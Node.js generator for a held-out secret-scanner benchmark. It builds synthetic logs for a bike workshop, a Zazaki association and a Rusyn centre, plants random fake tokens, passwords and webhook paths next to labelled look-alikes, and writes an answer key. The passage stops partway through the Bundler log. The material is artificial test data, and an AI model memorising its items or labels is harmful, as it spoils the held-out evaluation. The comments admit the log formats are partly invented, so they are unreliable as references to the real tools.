// Writes corpus/logs-in-the-wild/heldout112/: a hundred-and-twelfth held-out part, in formats no other part uses (a
// skopeo `sync --debug` run appended by cron, Wapiti 3's verbose crawl, a mini_httpd access log, a Cucumber run of a Rails
// app with Capybara and WebMock, `bundle install --verbose` in a CI job, an Apigee debug session exported as XML, a
// Taurus `bzt.log`, a Cowrie honeypot's JSON log, a Koel (Laravel) log, a Gophish server's output, `flatpak -v
// --ostree-verbose`, `pdm run` of a Flask app, `port -d install` of MacPorts, a Suave (F#) web app's console), with
// credentials planted in realistic places and look-alikes that are no credential, and its labels.json. The labels come
// from how each line was built, before any scanner reads the files.
//
//   node corpus/logs-in-the-wild/generate-heldout112.mjs     rewrites heldout112/ only; deterministic (seeded PRNG, no clock)
//
// Every value is random (its own seed): no real credential, no documentation example. JWTs are HS256-signed for real
// with random keys. The log builder (labels, repeat lines, the check that no planted value is on an unlabeled line) is
// build-log.mjs, shared with the other generators.
//
// Three organisations: the Calder Valley Bike Kitchen of Hebden Bridge (West Yorkshire), a community bike workshop with
// a shop, a container registry and a volunteers' rota (English, five logs); Komeleyê Kulturê Kirmanckî yê Çewlîgî, a
// Zazaki culture association of Bingöl (Çewlîg) with a dictionary API (ferheng), a music archive, a VPS and a staff
// security training (Zazaki in its Latin alphabet, with ç ş ê î û in text and ASCII in routes, parameter, cookie and key
// names, five logs); the Русиньскый културный центер of Prešov (Пряшів), with a Rusyn keyboard and dictionary app on
// Flatpak and MacPorts, a newspaper site in Python and a subscriptions site in F# (Rusyn in Cyrillic, as codified in
// Prešov, transliterated without diacritics in routes, parameter, cookie and key names, four logs). Standard names
// (OAuth's, vendors') stay as their specifications write them.
import { Buffer } from 'node:buffer';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { b64Of, b64urlOf, BROWSERS, clf, jwt, logBuilder, plant, publicIp, Random, requestMaker, WHY, writePart } from './build-log.mjs';
import { digits, HOUR, iso, local, lowerNum, MIN, MONTHS, pad, replayClock, upperNum, ymdHmsAt } from '../shared/generate-kit.mjs';

const here = dirname(fileURLToPath(import.meta.url));

const TOOLS = ['curl/8.19.0', 'python-requests/2.32.5', 'Wget/1.25.0', 'Go-http-client/1.1', 'okhttp/5.3.2'];
const baseRequest = requestMaker(BROWSERS, TOOLS);
const buildLog = logBuilder(baseRequest);
const { firstUse, gap } = replayClock();

/** West Yorkshire in November (GMT, UTC+0), Bingöl (TRT, UTC+3 all year), Prešov in November (CET, UTC+1). */
const GMT = 0;
const TRT = 180;
const CET = 60;
const DAY_EN = Date.UTC(2027, 10, 15, 0, 0, 0);
const DAY_ZZ = Date.UTC(2027, 10, 16, 0, 0, 0);
const DAY_RU = Date.UTC(2027, 10, 17, 0, 0, 0);

/** `+03:00`. */
const zone = (offset) => `${offset < 0 ? '-' : '+'}${pad(Math.floor(Math.abs(offset) / 60))}:${pad(Math.abs(offset) % 60)}`;
/** Every log here renders an event's `L`, its lines. */
const render = (e) => e.L;
const ev = (...L) => ({ L });
const sha = (rng) => rng.hex(64);

// =====================================================================================================================
// Calder Valley Bike Kitchen (English; Hebden Bridge, West Yorkshire: GMT, UTC+0 in November)
// =====================================================================================================================

const CV = 'calderbikekitchen.example';

// ---------------------------------------------------------------------------------------------------------------------
// skopeo-sync.log: a nightly `skopeo sync --debug --src yaml --dest docker` mirroring the shop's images to the
// workshop's own registry, stderr appended by cron, with the wrapper script's `set -x` lines (`+ …`, no time) around it.
// logrus' text format without a terminal: `time="<RFC 3339, UTC>" level=<level> msg="<message>"`, quotes in the message
// escaped. The logrus layout and skopeo's `Trying to access`, `Using blob info cache`, `Copying blob`, `Writing manifest`
// messages from memory (containers/image debug output as quoted in issues, not read through search this time); the debug
// lines printing a parsed YAML, credentials and signing parameters with Go's `%+v` are invented in its style.

function skopeoLog(rng) {
  const REG = `registry.${CV}`;
  const IMGS = ['bikeshop', 'rota', 'parts-catalogue', 'bikeshop-worker'];
  const ts = (t) => `time="${iso(t).slice(0, 19)}Z"`;
  const line = (t, level, msg) => `${ts(t)} level=${level} msg="${msg.replace(/"/g, '\\"')}"`;
  const filler = (rng, t) =>
    rng.pick([
      () => ev(line(t, 'debug', `GET https://${REG}/v2/calder/${rng.pick(IMGS)}/blobs/sha256:${sha(rng)}`)),
      () => ev(line(t, 'info', `Copying blob sha256:${sha(rng)}`)),
      () => ev(line(t, 'debug', `Detected compression format gzip`)),
      () => ev(line(t, 'debug', `Using blob info cache at /var/lib/containers/cache/blob-info-cache-v1.sqlite`)),
      () => ev(line(t, 'debug', `Trying to access "docker.io/library/${rng.pick(['alpine:3.21', 'ruby:3.4-slim', 'postgres:17'])}"`)),
      () => ev(line(t, 'info', 'Writing manifest to image destination')),
    ])();
  const steps = [
    {
      raw: {
        L: [
          '+ export REGISTRY_AUTH_FILE=/etc/skopeo/auth.json',
          '+ skopeo sync --debug --src yaml --dest docker /etc/skopeo/sync.yml registry.calderbikekitchen.example/mirror',
        ],
      },
    },
    plant(
      'framework-dump',
      'skopeo-debug-parsed-sync-yaml-password',
      'error',
      "skopeo's debug output prints the parsed sync YAML as a Go value (`%+v`), and the source registry's `credentials` block with it: the sync user's password in clear.",
      ({ rng, t }) => {
        const pw = rng.alnum(24);
        return {
          value: pw,
          event: ev(
            line(
              t,
              'debug',
              `Parsed sync config: map[${REG}:{Images:map[calder/bikeshop:[2.4.1 2.4.0] calder/rota:[1.9.3]] ImagesByTagRegex:map[] Credentials:{Username:sync Password:${pw}} TLSVerify:true CertDir:}]`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'refresh-token',
      'skopeo-debug-auth-json-identitytoken',
      'error',
      `${WHY.refresh} The registry login stored in auth.json is an OAuth identity token (the user name is the literal \`<token>\`), which containers/image trades as a \`refresh_token\`; a debug line prints the credentials struct with it.`,
      ({ rng, t }) => {
        const rt = rng.b64url(64);
        return {
          value: rt,
          event: ev(
            line(
              t,
              'debug',
              `Returning credentials for quay.io from /etc/skopeo/auth.json: {Username:<token> Password: IdentityToken:${rt}}`,
            ),
          ),
        };
      },
    ),
    3,
    plant(
      'header-dump',
      'skopeo-debug-request-headers-bearer',
      'error',
      "A debug line prints a registry request's header map (Go's `map[…:[…]]`), with the bearer token the registry's token service issued for the pull in `Authorization`.",
      ({ rng, t }) => {
        const tok = rng.b64url(52);
        return {
          value: tok,
          event: ev(
            line(
              t,
              'debug',
              `Sending GET https://${REG}/v2/calder/bikeshop/manifests/2.4.1 with headers map[Accept:[application/vnd.oci.image.manifest.v1+json] Authorization:[Bearer ${tok}] Docker-Distribution-Api-Version:[registry/2.0] User-Agent:[skopeo/1.18.0]]`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'skopeo-manifest-digest',
      'none',
      'The digest of the manifest just written (`sha256:<64 hex>`): a content address, no credential.',
      ({ rng, t }) => {
        const d = sha(rng);
        return {
          value: d,
          event: ev(line(t, 'debug', `Manifest has MIME type application/vnd.oci.image.manifest.v1+json, digest sha256:${d}`)),
        };
      },
    ),
    2,
    plant(
      'path-secret',
      'skopeo-mirror-location-path-token',
      'error',
      WHY.pathSecret(
        'The Docker Hub mirror in registries.conf is a pull-through cache whose location carries its access token as a path segment (`mirror.…/t/<token>/…`); skopeo names the location it tries',
      ),
      ({ rng, t }) => {
        const tok = rng.alnum(32);
        return { value: tok, event: ev(line(t, 'debug', `Trying to access "mirror.${CV}/t/${tok}/library/ruby:3.4-slim"`)) };
      },
    ),
    3,
    plant(
      'id-token',
      'skopeo-debug-sigstore-params-id-token',
      'error',
      'The signing step runs keyless with a static OIDC token from the CI provider; a debug line prints the parsed sigstore parameters (`%+v`) with the `IDToken`, on a UTC line',
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, {
          lifetime: 600,
          age: rng.int(5, 60),
          claims: {
            iss: 'https://oauth2.sigstore.dev/auth',
            aud: 'sigstore',
            sub: `CgR${rng.b64url(20)}`,
            email: `ci@${CV}`,
            email_verified: true,
          },
        });
        return {
          value: token,
          jwt: facts,
          event: ev(
            line(
              t,
              'debug',
              `Sigstore signing parameters: &{Fulcio:{URL:https://fulcio.sigstore.dev OIDCMode:staticToken IDToken:${token}} RekorURL:https://rekor.sigstore.dev}`,
            ),
          ),
        };
      },
    ),
    plant(
      'negative',
      'skopeo-rekor-entry-uuid',
      'none',
      "The transparency-log entry the signature was recorded under (Rekor's UUID: a 16-hex tree id and a 64-hex leaf hash): public by design, no credential.",
      ({ rng, t }) => {
        const u = rng.hex(16) + sha(rng);
        return { value: u, event: ev(line(t, 'info', `Signature uploaded to the transparency log, entry ${u}`)) };
      },
    ),
    2,
    plant(
      'api-key-name',
      'skopeo-wrapper-set-x-deploy-key',
      'error',
      `${WHY.apiKey('deploy_key')} After the sync the wrapper script asks the shop's host to deploy the new image; \`set -x\` echoes the curl command with the key in its query.`,
      ({ rng }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: ev(
            `+ curl -fsS -X POST 'https://api.${CV}/v1/deploy?image=calder/bikeshop:2.4.1&deploy_key=${key}'`,
            '{"queued":true,"job":"deploy-2.4.1"}',
          ),
        };
      },
    ),
    1,
  ];
  return buildLog(rng, { start: DAY_EN + 2 * HOUR, site: { host: 'skopeo' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// wapiti-shop.txt: Wapiti 3.2's console output of a scan of the workshop's shop (`wapiti -u https://shop…/ -v 2 --flush-
// session`), as the volunteer saved it: the banner, `[*] Saving scan state, please wait...`, one `[+] <METHOD> <URL>
// (<depth>)` a crawled resource (a POST with its `data:` line under it), then the modules' `[*] Launching module …`. No
// time. From memory (not fetched).

function wapitiLog(rng) {
  const SHOP = `https://shop.${CV}`;
  const PAGES = ['/', '/repairs', '/repairs/book', '/parts', '/parts?page=2', '/about', '/volunteer', '/contact', '/basket', '/events'];
  const filler = (rng) =>
    rng.pick([
      () => ev(`[+] GET ${SHOP}${rng.pick(PAGES)} (${rng.int(0, 3)})`),
      () =>
        ev(
          `[+] GET ${SHOP}/parts/${rng.pick(['brake-pads', 'inner-tube-700c', 'chain-9-speed', 'bottom-bracket'])}-${rng.int(100, 999)} (${rng.int(1, 3)})`,
        ),
      () => ev(`[+] POST ${SHOP}/repairs/book (2)`, `\tdata: name=default&email=wapiti2021%40mailinator.com&bike=default&date=2027-11-20`),
    ])();
  const steps = [
    {
      raw: {
        L: [
          '',
          '     __    __            _ _   _ _____',
          '    / / /\\ \\ \\__ _ _ __ (_) |_(_)___ /',
          "    \\ \\/  \\/ / _` | '_ \\| | __| | |_ \\",
          '     \\  /\\  / (_| | |_) | | |_| |___) |',
          '      \\/  \\/ \\__,_| .__/|_|\\__|_|____/',
          '                  |_|',
          'Wapiti 3.2.2 (wapiti-scanner.github.io)',
          '[*] Saving scan state, please wait...',
          '',
          '[*] You are lucky! Full moon tonight.',
        ],
      },
    },
    4,
    plant(
      'session-id',
      'wapiti-crawled-url-jsessionid',
      'error',
      WHY.session(
        "The workshop's old Java booking pages rewrite their links with the servlet session (`;jsessionid=<32 hex>`) when the crawler sends no cookie, and Wapiti lists the URL it crawled",
      ),
      ({ rng }) => {
        const s = rng.hex(32).toUpperCase();
        return { value: s, event: ev(`[+] GET ${SHOP}/hire/calendar.jsp;jsessionid=${s}?month=2027-12 (2)`) };
      },
    ),
    3,
    plant(
      'negative',
      'wapiti-crawled-asset-content-hash',
      'none',
      "A stylesheet whose name carries its build's content hash (`app-<20 hex>.css`): a cache-buster, no credential.",
      ({ rng }) => {
        const h = rng.hex(20);
        return { value: h, event: ev(`[+] GET ${SHOP}/assets/app-${h}.css (1)`) };
      },
    ),
    2,
    plant(
      'path-secret',
      'wapiti-crawled-invoice-link',
      'error',
      WHY.pathSecret(
        "An invoice link left in a page's footer by a template bug (`/invoices/<token>/pdf`, no login needed), which the crawler followed",
      ),
      ({ rng }) => {
        const tok = rng.b64url(32);
        return { value: tok, event: ev(`[+] GET ${SHOP}/invoices/${tok}/pdf (3)`) };
      },
    ),
    3,
    plant(
      'oauth-code',
      'wapiti-crawled-callback-code-state',
      'warning',
      `${WHY.code} A volunteer pasted the shop's sign-in return, \`/auth/callback?code=…&state=…\`, into a news post while debugging, and the crawler followed the link.`,
      ({ rng }) => {
        const code = rng.hex(20);
        return { value: code, event: ev(`[+] GET ${SHOP}/auth/callback?code=${code}&state=${rng.b64url(24)} (2)`) };
      },
    ),
    2,
    plant(
      'encoded',
      'wapiti-crawled-return-to-encoded-feed-key',
      'error',
      "The sign-in link of the rota page carries where to return to percent-encoded (`return_to=%2Frota.ics%3Ffeed_key%3D…`): decoded, the volunteers' calendar feed with its `feed_key`.",
      ({ rng }) => {
        const key = rng.alnum(32);
        return { value: key, event: ev(`[+] GET ${SHOP}/login?return_to=%2Frota.ics%3Fvolunteer%3D41%26feed_key%3D${key} (2)`) };
      },
    ),
    2,
    plant(
      'api-key-name',
      'wapiti-crawled-stock-api-key',
      'error',
      `${WHY.apiKey('stock_api_key')} The parts page's inline script calls the stock service with its key in the query, and Wapiti crawls the URL it found in the script.`,
      ({ rng }) => {
        const key = rng.hex(40);
        return { value: key, event: ev(`[+] GET https://stock.${CV}/api/levels.json?shop=hebden&stock_api_key=${key} (2)`) };
      },
    ),
    3,
    plant(
      'negative',
      'wapiti-post-data-csrf-token',
      'none',
      "The booking form's Rails `authenticity_token` in the POST data Wapiti lists: a CSRF field, no credential.",
      ({ rng }) => {
        const a = rng.b64url(86);
        return {
          value: a,
          event: ev(
            `[+] POST ${SHOP}/repairs/book (2)`,
            `\tdata: authenticity_token=${a}&name=default&email=wapiti2021%40mailinator.com&bike=default`,
          ),
        };
      },
    ),
    2,
    {
      raw: {
        L: [
          '[*] Saving scan state, please wait...',
          '',
          ' Note',
          '========',
          'This scan has been saved in the file /home/volunteer/.wapiti/scans/shop.calderbikekitchen.example_folder_6f3c1a2e.db',
          '[*] Wapiti found 212 URLs and forms during the scan',
          '[*] Loading modules:',
          '\t backup, brute_login_form, cookieflags, crlf, csp, csrf, exec, file, htaccess, http_headers, permanentxss, redirect, sql, ssrf, timesql, xss, xxe',
          '',
          '[*] Launching module csp',
          '',
          '[*] Launching module http_headers',
          'Checking X-Frame-Options:',
          'X-Frame-Options is not set',
        ],
      },
    },
  ];
  return buildLog(rng, { start: DAY_EN + 10 * HOUR, site: { host: 'wapiti' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// access_log (mini_httpd): the volunteers' rota and door controller, small CGI programs behind mini_httpd 1.30 (`-l
// /var/log/mini_httpd/access_log`) on the workshop's Raspberry Pi: the combined format, `<ip> - <user> [<dd/Mon/yyyy:
// HH:MM:SS +0000>] "<method> <url> <protocol>" <status> <bytes> "<referer>" "<user agent>"`. mini_httpd cuts the URL,
// the referer and the user agent at 200 characters (`%.200s`), so every planted URL here stays shorter. The layout and the
// cut are from memory of mini_httpd.c (not fetched).

function miniHttpdLog(rng) {
  const SITE = `https://rota.${CV}`;
  const cut = (s) => {
    if (s.length > 200) throw new Error(`mini_httpd would cut ${s.slice(0, 40)}…`);
    return s;
  };
  const row = (e, { path, status = 200, bytes = e.bytes, referer = '-', ua = e.ua, ip = e.ip, user = '-', method = 'GET' }) =>
    `${ip} - ${user} [${clf(e.t, GMT)}] "${method} ${cut(path)} HTTP/1.1" ${status} ${bytes} "${cut(referer)}" "${ua.slice(0, 200)}"`;
  const filler = (rng, t) => ({
    L: [
      row(
        { ...baseRequest(rng, t, { host: 'rota' }), t },
        rng.pick([
          { path: '/' },
          { path: '/rota.cgi?week=47' },
          { path: '/rota.cgi?week=48', referer: `${SITE}/rota.cgi?week=47` },
          { path: '/style.css', bytes: 3121 },
          { path: '/door.cgi?status=1', ua: 'ESP32HTTPClient' },
          { path: '/favicon.ico', status: 404, bytes: 0 },
        ]),
      ),
    ],
  });
  const at =
    (make) =>
    ({ rng, t, refs }) =>
      make({ rng, t, refs, e: { ...baseRequest(rng, t, { host: 'rota' }), t } });
  const DOOR = 'Mozilla/5.0 (Linux; Android 14; SM-A146B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36';
  const steps = [
    3,
    plant(
      'negative',
      'mini-httpd-fbclid',
      'none',
      'A visitor arriving from Facebook with its click id (`fbclid=IwAR…`): a tracking id, no credential.',
      at(({ rng, e }) => {
        const f = `IwAR${rng.b64url(58)}`;
        return { value: f, event: ev(row(e, { path: `/?fbclid=${f}` })) };
      }),
    ),
    2,
    plant(
      'id-token',
      'mini-httpd-rota-query-id-token',
      'error',
      "The rota's sign-in asks the volunteers' identity provider for `response_mode=query`, so the ID token comes back in the query of the CGI's URL, which the access log writes with its `+0000` time",
      at(({ rng, t, e }) => {
        const { token, facts } = jwt(rng, t, { lifetime: 3600, age: rng.int(1, 5), claims: { aud: 'rota', sub: `v${rng.int(10, 99)}` } });
        return { value: token, jwt: facts, event: ev(row(e, { path: `/signin.cgi?id_token=${token}` })) };
      }),
    ),
    2,
    plant(
      'embed-jwt',
      'mini-httpd-referer-embed-jwt-120s',
      'warning',
      "The workshop's website embeds this week's rota (`/embed/<JWT>`, a two-minute token without jti); the rota's stylesheet request has the embed page as its `Referer`, on a `+0000` line",
      at(({ rng, t, e }) => {
        const { token, facts } = jwt(rng, t, { lifetime: 120, age: rng.int(1, 20), claims: { rota: 47 } });
        return { value: token, jwt: facts, event: ev(row(e, { path: '/style.css', bytes: 3121, referer: `${SITE}/embed/${token}` })) };
      }),
    ),
    2,
    plant(
      'replay',
      'mini-httpd-door-ticket-first',
      'note',
      WHY.ticketFirst(
        "A door ticket for the Tuesday open workshop (`door.cgi?ticket=…`), scanned at the door by a volunteer's phone; the ticket is",
      ),
      at(({ rng, t, e }) => {
        const tk = rng.b64url(22);
        firstUse.ticket = t;
        return { value: tk, event: ev(row(e, { path: `/door.cgi?ticket=${tk}`, ua: DOOR, ip: '203.0.113.47' })) };
      }),
      { ref: 'ticket' },
    ),
    2,
    plant(
      'replay',
      'mini-httpd-door-ticket-again',
      'replay',
      '',
      at(({ refs, t, e }) => ({
        marks: [
          {
            value: refs.get('ticket').value,
            why: `${WHY.replay('ticket', gap('ticket', t))} Another phone, on another address, scanned the same door ticket and the door controller answered 200 again.`,
          },
        ],
        event: ev(row(e, { path: `/door.cgi?ticket=${refs.get('ticket').value}`, ua: BROWSERS[2], ip: '198.51.100.23' })),
      })),
      { replayOf: 'ticket', after: 131 },
    ),
    2,
    plant(
      'refresh-token',
      'mini-httpd-sync-cgi-refresh-token-query',
      'error',
      `${WHY.refresh} The rota's calendar sync is started from a cron job's wget, which passes the Google refresh token in the query (\`refresh_token=1//0…\`).`,
      at(({ rng, e }) => {
        const rt = `1//0${rng.b64url(99)}`;
        return { value: rt, event: ev(row(e, { path: `/sync.cgi?refresh_token=${rt}`, ua: 'Wget/1.21.3', ip: '127.0.0.1' })) };
      }),
    ),
    2,
    plant(
      'negative',
      'mini-httpd-stylesheet-version-hash',
      'none',
      'The stylesheet fetched with its version hash (`?v=<8 hex>`): a cache-buster, no credential.',
      at(({ rng, e }) => {
        const v = rng.hex(8);
        return { value: `v=${v}`, event: ev(row(e, { path: `/style.css?v=${v}`, bytes: 3121 })) };
      }),
    ),
    2,
    plant(
      'webhook',
      'mini-httpd-payment-hook-path-secret',
      'error',
      WHY.webhook(
        "The card reader's provider posts sales to the rota's CGI under a secret path segment (`/hook.cgi/<secret>`), which mini_httpd writes like any URL",
      ),
      at(({ rng, e }) => {
        const s = rng.alnum(40);
        return { value: s, event: ev(row(e, { method: 'POST', path: `/hook.cgi/${s}`, ua: 'SumUp-Webhooks/1.0', bytes: 2 })) };
      }),
    ),
    2,
  ];
  return buildLog(rng, { start: DAY_EN + 8 * HOUR, site: { host: 'rota' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// cucumber-shop.txt: `bundle exec cucumber` of the shop (Rails 8, Capybara with Selenium, WebMock) in CI, the pretty
// formatter: features, scenarios and steps with their `# file:line` comments, a failing step's message and backtrace
// indented under it, WebMock's "Real HTTP connections are disabled" message with its `stub_request` snippet, then
// `Failing Scenarios:` and the totals. Ruby 3.4's `Hash#inspect` (`{method: :get, url: "…"}`). No time. From memory
// (Cucumber's pretty formatter and WebMock's message, not fetched).

function cucumberLog(rng) {
  const SHOP = `https://shop.${CV}`;
  const ok = (text, file) => `    ${text.padEnd(52)} # ${file}`;
  const filler = (rng) =>
    rng.pick([
      () =>
        ev(
          '',
          `  Scenario: ${rng.pick(['A visitor browses parts', 'A member renews', 'A volunteer signs up', 'A visitor reads the events'])} # features/${rng.pick(['parts', 'members', 'volunteers', 'events'])}.feature:${rng.int(3, 60)}`,
        ),
      () =>
        ev(
          ok(
            `Given I am on the ${rng.pick(['parts', 'events', 'home', 'repairs'])} page`,
            `features/step_definitions/web_steps.rb:${rng.int(1, 30)}`,
          ),
        ),
      () =>
        ev(
          ok(
            `Then I should see "${rng.pick(['Brake pads', 'Open workshop', 'Welcome', 'Thank you'])}"`,
            'features/step_definitions/web_steps.rb:12',
          ),
        ),
    ])();
  const webmock = (method, url, body, snippet) => [
    `      Real HTTP connections are disabled. Unregistered request: ${method.toUpperCase()} ${url} with body '${body}' with headers {'Accept'=>'*/*', 'Content-Type'=>'application/json', 'User-Agent'=>'Faraday v2.12.2'} (WebMock::NetConnectNotAllowedError)`,
    '',
    '      You can stub this request with the following snippet:',
    '',
    `      stub_request(:${method}, "${url}").`,
    '        with(',
    ...snippet.map((s) => `          ${s}`),
    '        to_return(status: 200, body: "", headers: {})',
  ];
  const steps = [
    {
      raw: {
        L: [
          'Using the default profile...',
          '# language: en',
          'Feature: Booking a repair',
          '',
          '  Scenario: A member books a service slot           # features/repairs.feature:6',
        ],
      },
    },
    3,
    plant(
      'implicit-fragment',
      'cucumber-capybara-current-url-access-token',
      'error',
      "A sign-in scenario fails, and Capybara's message quotes the browser's current URL: the identity provider's implicit-flow return with `#access_token=…`.",
      ({ rng }) => {
        const at = rng.b64url(43);
        return {
          value: at,
          event: ev(
            ok('Then I should be on the rota page', 'features/step_definitions/navigation_steps.rb:8'),
            `      expected "${SHOP}/auth/done#access_token=${at}&token_type=Bearer&expires_in=3600" to match "/rota" (RSpec::Expectations::ExpectationNotMetError)`,
            "      ./features/step_definitions/navigation_steps.rb:9:in 'block in <top (required)>'",
            "      features/volunteers.feature:14:in 'I should be on the rota page'",
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'cucumber-booking-reference',
      'none',
      "A booking reference in the page text Capybara quotes (`CVBK-<8 capitals>`): the customer's reference, no credential.",
      ({ rng }) => {
        const ref = `CVBK-${upperNum(rng, 8)}`;
        return {
          value: ref,
          event: ev(
            ok('Then I should see "Booked"', 'features/step_definitions/web_steps.rb:12'),
            `      expected to find text "Booked" in "Calder Valley Bike Kitchen Repairs Your booking ${ref} is waiting for payment Pay now" (RSpec::Expectations::ExpectationNotMetError)`,
          ),
        };
      },
    ),
    2,
    plant(
      'webhook',
      'cucumber-webmock-slack-incoming-webhook',
      'error',
      WHY.webhook(
        "The booking notifier posts to the workshop's Slack incoming webhook (`hooks.slack.com/services/T…/B…/<24>`), WebMock blocks it and its message names the URL, then its stub snippet names it again",
      ),
      ({ rng }) => {
        const path = `T${upperNum(rng, 10)}/B${upperNum(rng, 10)}/${rng.alnum(24)}`;
        const url = `https://hooks.slack.com/services/${path}`;
        return {
          value: path,
          event: ev(
            ok('When I book a "full service" for next Tuesday', 'features/step_definitions/repair_steps.rb:4'),
            ...webmock('post', url, '{"text":"New booking: full service, Tue 23 Nov"}', [
              'body: "{\\"text\\":\\"New booking: full service, Tue 23 Nov\\"}").',
            ]),
          ),
        };
      },
    ),
    2,
    plant(
      'oauth-code',
      'cucumber-webmock-token-exchange-code',
      'warning',
      `${WHY.code} Here the code is in the body of the token request WebMock refused (PKCE, no client secret; its state was checked a step earlier): the message and the stub snippet both quote it.`,
      ({ rng }) => {
        const code = rng.b64url(32);
        return {
          value: code,
          event: ev(
            ok('And I sign in with the bike-share account', 'features/step_definitions/session_steps.rb:21'),
            ...webmock(
              'post',
              `https://id.${CV}/oauth/token`,
              `grant_type=authorization_code&code=${code}&redirect_uri=${SHOP}/auth/callback&client_id=shop`,
              [
                `body: {"client_id"=>"shop", "code"=>"${code}", "grant_type"=>"authorization_code", "redirect_uri"=>"${SHOP}/auth/callback"}).`,
              ],
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'api-key-name',
      'cucumber-stock-client-error-hash-inspect',
      'error',
      `${WHY.apiKey('parts_api_key')} The stock client's error prints its request as a Ruby hash (\`{method: :get, url: "…"}\`), the URL with the key in the query.`,
      ({ rng }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: ev(
            ok('Then I should see "In stock"', 'features/step_definitions/web_steps.rb:12'),
            `      StockClient::Error: 503 from {method: :get, url: "https://stock.${CV}/api/levels.json?sku=BP-2201&parts_api_key=${key}", timeout: 5} (StockClient::Error)`,
            "      ./app/clients/stock_client.rb:31:in 'StockClient#get'",
          ),
        };
      },
    ),
    2,
    plant(
      'session-id',
      'cucumber-debug-puts-selenium-cookies',
      'error',
      WHY.session(
        "A debugging `puts page.driver.browser.manage.all_cookies` left in a step prints the Selenium cookie list as Ruby inspects it, with the shop's Rails session cookie (`_bikekitchen_session`)",
      ),
      ({ rng }) => {
        const s = `${rng.b64url(180)}--${rng.b64url(16)}--${rng.b64url(22)}%3D%3D`;
        return {
          value: s,
          event: ev(
            `[{name: "_bikekitchen_session", value: "${s}", path: "/", domain: "shop.${CV}", expires: nil, secure: true, http_only: true, same_site: "Lax"}]`,
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'cucumber-stripe-publishable-key',
      'none',
      "A missing-element failure quotes the checkout form's `data-key`, Stripe's publishable key (`pk_live_…`): public by design.",
      ({ rng }) => {
        const pk = `pk_live_${rng.alnum(99)}`;
        return {
          value: pk,
          event: ev(
            `      Unable to find css "#card-element" within #<Capybara::Node::Element tag="form" path="/HTML/BODY/MAIN/FORM[1]" data-key="${pk}"> (Capybara::ElementNotFound)`,
          ),
        };
      },
    ),
    1,
    {
      raw: {
        L: [
          '',
          'Failing Scenarios:',
          'cucumber features/volunteers.feature:11 # Scenario: A volunteer signs in',
          'cucumber features/repairs.feature:6 # Scenario: A member books a service slot',
          'cucumber features/parts.feature:19 # Scenario: A visitor checks a part',
          '',
          '24 scenarios (5 failed, 19 passed)',
          '131 steps (5 failed, 9 skipped, 117 passed)',
          '0m41.206s',
        ],
      },
    },
  ];
  return buildLog(rng, { start: DAY_EN + 11 * HOUR, site: { host: 'cucumber' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// bundle-install-job.log: a CI job of the shop on the workshop's self-hosted GitLab runner (the runner's `$ <command>`
// echo, no time), a debugging `bundle config` and `git config --list`, then `bundle install --verbose` of Bundler 2.6:
// `Running \`bundle install --verbose\` with bundler …`, `HTTP GET …`/`HTTP 200 OK …`, `Fetching gem metadata from …`,
// `Using …`/`Fetching …`/`Installing …`. From memory (not fetched): Bundler's verbose messages and `bundle config`'s
// `Set via BUNDLE_…` layout.

function bundlerLog(rng) {
  const GEMS = [
    'rake 13.2.1',
    'rack 3.1.8',
    'nokogiri 1.18.2 (x86_64-linux-gnu)',
    'puma 6.5.0',
    'pg 1.5.9',
    'sidekiq 7.3.7',
    'turbo-rails 2.0.11',
    'stimulus-rails 1.3.4',
  ];
  let phase = 'setup';
  const filler = (rng) => {
    if (phase === 'install') return ev(`${rng.pick(['Using', 'Using', 'Fetching', 'Installing'])} ${rng.pick(GEMS)}`);
    return ev(
      rng.pick([
        '$ ruby -v',
        '$ gem -v',
        `Using docker image sha256:${sha(rng)} for ruby:3.4-slim with digest ruby@sha256:${sha(rng)} ...`,
      ]),
    );
  };
  const steps = [
    {
      raw: {
        L: [
          'Running with gitlab-runner 18.5.0 (a1c4b2e9)',
          '  on workshop-pi runner-8x2kq',
          'Preparing the "docker" executor',
          '$ bundle config',
        ],
      },
    },
    plant(
      'framework-dump',
      'bundler-config-sidekiq-pro-credentials',
      'error',
      "A debugging `bundle config` in the job prints every setting with its source, among them the Sidekiq Pro source's `user:password` pair set from a CI variable (`BUNDLE_GEMS__CONTRIBSYS__COM`).",
      ({ rng }) => {
        const pair = `${rng.hex(8)}:${rng.hex(8)}`;
        return {
          value: pair,
          event: ev(
            'Settings are listed in order of priority. The top value will be used.',
            'gems.contribsys.com',
            `Set via BUNDLE_GEMS__CONTRIBSYS__COM: "${pair}"`,
            '',
            'path',
            'Set for your local app (/builds/calder/shop/.bundle/config): "vendor/bundle"',
            '',
          ),
        };
      },
      { after: 1 },
    ),
    plant(
      'encoded',
      'bundler-git-config-extraheader-basic-base64',
      'error',
      "`git config --list` prints the checkout's `http.…extraheader=AUTHORIZATION: basic <base64>`; decoded, `x-access-token:` and the token that fetches the private parts-client gem.",
      ({ rng }) => {
        const b = b64Of(`x-access-token:ghs_${rng.alnum(36)}`);
        return {
          value: b,
          event: ev(
            '$ git config --list',
            'core.repositoryformatversion=0',
            'core.filemode=true',
            `http.https://github.com/.extraheader=AUTHORIZATION: basic ${b}`,
            'remote.origin.url=https://github.com/calder-bike-kitchen/shop.git',
          ),
        };
      },
    ),
    {
      raw: {
        get L() {
          phase = 'install';
          return [
            '$ bundle install --verbose',
            'Running `bundle install --verbose` with bundler 2.6.9',
            'Found changes from the lockfile, re-resolving dependencies because the list of sources changed',
          ];
        },
      },
    },
    plant(
      'api-key-name',
      'bundler-http-get-private-source-access-key',
      'error',
      `${WHY.apiKey('access_key')} The shop's private gem source is declared with its key in the query (\`source "https://gems…/?access_key=…"\`), and Bundler's verbose output writes each index request.`,
      ({ rng }) => {
        const key = rng.alnum(40);
        return {
          value: key,
